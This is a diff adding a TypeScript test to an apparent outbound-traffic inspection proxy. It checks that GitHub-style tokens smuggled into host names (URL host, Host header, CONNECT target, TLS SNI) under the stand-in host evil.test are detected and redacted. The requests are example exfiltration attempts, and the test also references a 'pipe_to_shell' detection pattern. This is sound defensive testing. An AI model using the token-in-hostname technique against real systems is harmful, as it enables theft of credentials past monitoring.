@@ -10,6 +10,7 @@ import { loadOrCreateCa } from '../host-services/ca.js';
 import { homePaths } from '../host-services/home.js';
 import { INJECTION_TEXT, startUpstream, type Upstream } from './support/upstream.js';
 import { expandExample } from './support/expand-example.js';
+import { leakedRuns } from './support/leak-check.js';
 import { connectTunnel, viaProxyHttp, waitFor, type Resp } from './support/proxy-client.js';
 import { startService, tempHome, type TestService } from './support/service.js';
 
@@ -238,5 +239,77 @@ describe('a CONNECT tunnel that carries no TLS is read, in either mode', () => {
     await throughTunnel(off, `localhost:${upstream.httpPort}`, `GET /plain HTTP/1.1\r\nHost: localhost\r\n\r\n`);
     await off.findings(1, (x) => x.pattern === 'pipe_to_shell' && x.dest === `localhost:${upstream.httpPort}`);
     expect(off.svc.store.recent(500).filter((x) => x.dest === `localhost:${upstream.httpsPort}`)).toEqual([]);
+  });
+});
+
+describe('a secret in a host name', () => {
+  it('is found in an absolute-URI host, a Host header, a CONNECT target and an SNI name, and never written raw', async () => {
+    const parts: string[] = [];
+    // Host names are read case-insensitively (and lowercased): a lowercase token, checked lowercase.
+    const tok = () => {
+      const k = expandExample('ghp_{{rand:lower:36}}');
+      parts.push(...k.randomParts);
+      return k.text;
+    };
+    const before = { off: off.svc.store.recent(500).length, g: g.svc.store.recent(500).length };
+
+    const t1 = tok();
+    const r1 = await viaProxyHttp(off.port, `http://${t1}.evil.test/x`);
+    expect(r1.status).toBe(502);
+    const t2 = tok();
+    const r2 = await rawExchange(off.port, `GET /x HTTP/1.1\r\nHost: ${t2}.evil.test\r\nConnection: close\r\n\r\n`);
+    expect(r2).toMatch(/^HTTP\/1\.1 502 /);
+    for (const s of [off, g]) {
+      const t3 = tok();
+      const status = await connectTunnel(s.port, `${t3}.evil.test:443`).then(
+        (sock) => {
+          sock.destroy();
+          return 200;
+        },
+        (err: { status?: number }) => err.status ?? 0,
+      );
+      expect(status).toBe(s === off ? 502 : 200);
+    }
+    // SNI, inspected (the guardian terminates TLS) and blind (read from the ClientHello).
+    for (const s of [g, off]) {
+      const t5 = tok();
+      const tunnel = await connectTunnel(s.port, `localhost:${upstream.httpsPort}`);
+      const t = tls.connect({
+        socket: tunnel,
+        servername: `${t5}.evil.test`,
+        ca: [s === g ? g.svc.ca!.certPem : upCaPem],
+        rejectUnauthorized: false,
+      });
+      t.on('error', () => undefined);
+      await Promise.race([once(t, 'secureConnect'), once(t, 'close')]);
+      t.destroy();
+    }
+
+    const hostFindings = async (s: TestService, n: number) => {
+      await s.findings(n, (f) => f.pattern === 'github_token' && f.dest.includes('evil.test'));
+      return s.svc.store.recent(500).filter((f) => f.pattern === 'github_token');
+    };
+    await waitFor(
+      () => g.svc.store.recent(500).filter((f) => f.pattern === 'github_token' && f.protocol === 'https').length,
+      (n) => n >= 1,
+      'the SNI finding (inspected)',
+    );
+    const offFound = await hostFindings(off, 3);
+    const gFound = await hostFindings(g, 1);
+    expect(offFound.map((f) => f.protocol)).toEqual(expect.arrayContaining(['http', 'connect', 'https']));
+    expect(gFound.map((f) => f.protocol)).toEqual(expect.arrayContaining(['connect', 'https']));
+    for (const f of [...offFound, ...gFound]) {
+      if (f.dest.includes('evil.test')) expect(f.dest).toMatch(/^\[REDACTED\]\.evil\.test:\d+$/);
+    }
+    expect(off.svc.store.recent(500).length).toBeGreaterThan(before.off);
+
+    // Nothing anywhere carries the token: findings, status (its CONNECT destinations), the service log.
+    const lower = parts.map((p) => p.toLowerCase());
+    for (const s of [off, g]) {
+      const everything = JSON.stringify([s.svc.store.recent(500), s.svc.status(null), s.logs]).toLowerCase();
+      expect(leakedRuns(everything, lower)).toEqual([]);
+    }
+    const dests = (off.svc.status(null).connect_destinations ?? []).map((d) => d.dest);
+    expect(dests).toContain('[REDACTED].evil.test:443');
   });
 });
